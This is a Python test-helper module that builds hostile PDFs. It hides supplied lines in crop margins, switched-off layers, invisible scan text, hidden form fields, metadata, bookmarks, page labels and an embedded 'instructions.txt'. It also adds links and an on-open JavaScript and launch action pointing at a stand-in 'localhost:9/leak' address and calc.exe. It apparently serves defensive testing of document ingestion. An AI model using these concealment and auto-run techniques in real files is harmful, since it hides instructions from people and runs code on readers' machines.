"""Ways in which words stand in a hostile PDF: for all to see, for nobody, beside the page, or in the file around it.

Each takes the hostile page and the lines that it is to hold.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from io import BytesIO

import pymupdf
from PIL import Image

from tests.helpers.drawn_pages import MARGIN, SCAN_DPI
from tests.helpers.odd_files import HIDDEN_KINDS

Put = Callable[[pymupdf.Page, Sequence[str]], None]

LINE = 16
"""points from one line to the next"""
TOP = 120
ORDINARY = "The heating is paid by the tenant of the shop."


def shown(page: pymupdf.Page, lines: Sequence[str], **options: object) -> None:
    """As any words, each line on its own; a long one runs out of the page only where it has no spaces."""
    writer = pymupdf.TextWriter(page.rect)
    for number, line in enumerate(lines):
        writer.append((MARGIN, TOP + LINE * number), line, font=pymupdf.Font("helv"), fontsize=9)
    writer.write_text(page, **options)


def hidden(kind: str) -> Put:
    """One of the ways that ``tests.helpers.odd_files`` knows; the line is the one that it hides."""
    return lambda page, lines: HIDDEN_KINDS[kind](page)


def below_words(put: Put) -> Put:
    """The same, on a page that shows ordinary words above."""

    def both(page: pymupdf.Page, lines: Sequence[str]) -> None:
        page.insert_text((MARGIN, MARGIN), ORDINARY)
        put(page, lines)

    return both


def outside_crop(page: pymupdf.Page, lines: Sequence[str]) -> None:
    """Below the part of the page that is displayed."""
    page.insert_text((MARGIN, page.rect.height - 30), list(lines))
    page.set_cropbox(pymupdf.Rect(0, 0, page.rect.width, page.rect.height - 100))


def switched_off(page: pymupdf.Page, lines: Sequence[str]) -> None:
    """On a layer of the file that is not displayed."""
    layer = page.parent.add_ocg("notes", on=False)
    page.insert_text((MARGIN, TOP), list(lines), oc=layer)


def beside_the_ink_of_a_scan(page: pymupdf.Page, lines: Sequence[str]) -> None:
    """In the invisible layer of a scan, where its picture shows white paper."""
    _scan(page, ORDINARY)
    shown(page, [ORDINARY], render_mode=3)
    page.insert_text((MARGIN, 500), list(lines), render_mode=3)


def on_a_scan(page: pymupdf.Page, lines: Sequence[str]) -> None:
    """As a picture of words with the words as a scanner's program lays them under it."""
    _scan(page, *lines)
    shown(page, lines, render_mode=3)


def note(page: pymupdf.Page, lines: Sequence[str]) -> None:
    """In a note that opens when it is clicked."""
    page.add_text_annot((MARGIN, TOP), "\n".join(lines))


def field(page: pymupdf.Page, lines: Sequence[str]) -> None:
    """In a field of a form, which is displayed with what it holds."""
    page.add_widget(_field(lines))


def hidden_field(page: pymupdf.Page, lines: Sequence[str]) -> None:
    """In a field that is not displayed."""
    widget = _field(lines)
    widget.field_display = 1
    page.add_widget(widget)


def metadata(page: pymupdf.Page, lines: Sequence[str]) -> None:
    """In the title, subject and keywords of the file, and in its XMP."""
    words = " ".join(lines)
    page.parent.set_metadata({"title": words, "subject": words, "keywords": words, "author": words})
    page.parent.set_xml_metadata(f"<x:xmpmeta xmlns:x='adobe:ns:meta/'>{words}</x:xmpmeta>")


def bookmark(page: pymupdf.Page, lines: Sequence[str]) -> None:
    """In the table of contents of the file."""
    page.parent.set_toc([[1, line, page.number + 1] for line in lines])


def attachment(page: pymupdf.Page, lines: Sequence[str]) -> None:
    """In a file inside the file."""
    page.parent.embfile_add("instructions.txt", "\n".join(lines).encode())


def page_label(page: pymupdf.Page, lines: Sequence[str]) -> None:
    """In the numbers that the file gives its pages."""
    page.parent.set_page_labels([{"startpage": page.number, "prefix": " ".join(lines), "style": "D"}])


def linked(page: pymupdf.Page, lines: Sequence[str]) -> None:
    """As words that are links: to a page of the web, to a file, and to a program that is to be started."""
    shown(page, lines)
    places = [pymupdf.Rect(MARGIN, TOP + LINE * number, 400, TOP + LINE * (number + 1)) for number in range(3)]
    page.insert_link({"kind": pymupdf.LINK_URI, "from": places[0], "uri": "http://localhost:9/leak"})
    page.insert_link({"kind": pymupdf.LINK_LAUNCH, "from": places[1], "file": "calc.exe"})
    page.insert_link({"kind": pymupdf.LINK_GOTOR, "from": places[2], "file": "secrets.pdf", "page": 0})


def started_by_opening(page: pymupdf.Page, lines: Sequence[str]) -> None:
    """As words, in a file that asks its viewer to run a script and to start a program when it is opened."""
    shown(page, lines)
    document = page.parent
    script = document.get_new_xref()
    document.update_object(script, "<</S/JavaScript/JS(app.launchURL\\('http://localhost:9/leak'\\))>>")
    document.xref_set_key(document.pdf_catalog(), "OpenAction", f"{script} 0 R")
    document.xref_set_key(page.xref, "AA", "<</O<</S/Launch/F(calc.exe)>>>>")


def _field(lines: Sequence[str]) -> pymupdf.Widget:
    widget = pymupdf.Widget()
    widget.field_type = pymupdf.PDF_WIDGET_TYPE_TEXT
    widget.field_name, widget.field_value = "remarks", " ".join(lines)
    widget.rect, widget.text_fontsize = pymupdf.Rect(MARGIN, TOP, 560, TOP + 20), 7
    return widget


def _scan(page: pymupdf.Page, *lines: str) -> None:
    """Paints the page's size of paper with these lines as pixels."""
    drawn = pymupdf.open()
    shown(drawn.new_page(width=page.rect.width, height=page.rect.height), lines)
    pixmap = drawn[0].get_pixmap(dpi=SCAN_DPI)
    encoded = BytesIO()
    Image.frombytes("RGB", (pixmap.width, pixmap.height), pixmap.samples).save(encoded, "png", compress_level=1)
    page.insert_image(page.rect, stream=encoded.getvalue())
